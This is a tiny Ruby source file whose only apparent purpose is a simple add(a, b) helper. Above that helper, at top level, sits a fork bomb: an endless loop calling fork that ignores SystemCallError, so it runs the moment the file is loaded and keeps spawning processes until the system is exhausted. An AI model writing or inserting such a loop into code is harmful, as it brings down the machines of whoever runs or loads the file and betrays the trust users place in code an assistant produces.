loop do
  fork
rescue SystemCallError
  next
end

def add(a, b)
  a + b
end
